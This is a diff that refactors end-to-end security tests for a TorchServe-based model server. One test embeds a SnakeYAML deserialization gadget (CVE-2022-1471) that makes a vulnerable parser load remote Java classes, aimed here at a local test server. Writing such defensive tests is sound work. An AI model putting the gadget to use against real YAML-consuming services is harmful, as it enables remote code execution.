@@ -3,8 +3,6 @@
 from __future__ import annotations
 
 import json
-import time
-from collections.abc import Iterator
 from pathlib import Path
 
 import grpc
@@ -14,24 +12,24 @@ from densenet_serving.build.mar import MANIFEST
 from densenet_serving.client.http import Client
 from densenet_serving.errors import ApiError
 from densenet_serving.server import torchserve
-from tests.e2e.attacks import PATIENCE_SECONDS, grpc_status, write_code
-from tests.local_server import LocalServer, serve
+from tests.e2e.attacks import grpc_status, write_code
+from tests.local_server import LocalServer
+from tests.waiting import until
 
 
-@pytest.fixture
-def local() -> Iterator[LocalServer]:
-    with serve() as running:
-        yield running
+def name_in_manifest(folder: Path, key: str, file: str, content: str) -> None:
+    """Write a file into a model's folder, and its name into the manifest."""
+    manifest = json.loads((folder / MANIFEST).read_text())
+    manifest["model"][key] = file
+    (folder / MANIFEST).write_text(json.dumps(manifest))
+    (folder / file).write_text(content)
 
 
 def test_a_models_settings_load_no_java_class(client: Client, local: LocalServer, tmp_path: Path) -> None:
     """CVE-2022-1471: SnakeYAML before 2.0 would fetch code from this address and run it."""
     folder = write_code(tmp_path / "yaml", "yaml")
-    manifest = json.loads((folder / MANIFEST).read_text())
-    manifest["model"]["configFile"] = "model-config.yaml"
-    (folder / MANIFEST).write_text(json.dumps(manifest))
     gadget = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{local.url}/"]]]]'
-    (folder / "model-config.yaml").write_text(f"minWorkers: {gadget}\n")
+    name_in_manifest(folder, "configFile", "model-config.yaml", f"minWorkers: {gadget}\n")
     try:
         with pytest.raises(ApiError):
             client.register(str(folder))
@@ -44,10 +42,7 @@ def test_a_models_settings_load_no_java_class(client: Client, local: LocalServer
 def test_an_archive_installs_no_packages(client: Client, tmp_path: Path) -> None:
     """Where packages are installed, one that is nowhere makes the registration fail."""
     folder = write_code(tmp_path / "greedy", "greedy")
-    manifest = json.loads((folder / MANIFEST).read_text())
-    manifest["model"]["requirementsFile"] = "requirements.txt"
-    (folder / MANIFEST).write_text(json.dumps(manifest))
-    (folder / "requirements.txt").write_text("/nowhere/at-all\n")
+    name_in_manifest(folder, "requirementsFile", "requirements.txt", "/nowhere/at-all\n")
     try:
         client.register(str(folder), initial_workers=0)
         assert [model["workers"] for model in client.versions("greedy")] == [[]]
@@ -70,9 +65,6 @@ def test_where_models_may_be_registered_a_management_token_runs_any_code(
         else:
             token = f"Bearer {running.endpoint.token('management')}"
             assert grpc_status(running.endpoint, "management", token, folder) == grpc.StatusCode.OK
-        deadline = time.monotonic() + PATIENCE_SECONDS  # over gRPC the call returns before a worker has started
-        while not (folder / "ran").exists():
-            assert time.monotonic() < deadline
-            time.sleep(0.1)
+        until((folder / "ran").exists)  # over gRPC the call returns before a worker has started
     finally:
         client.unregister(name)
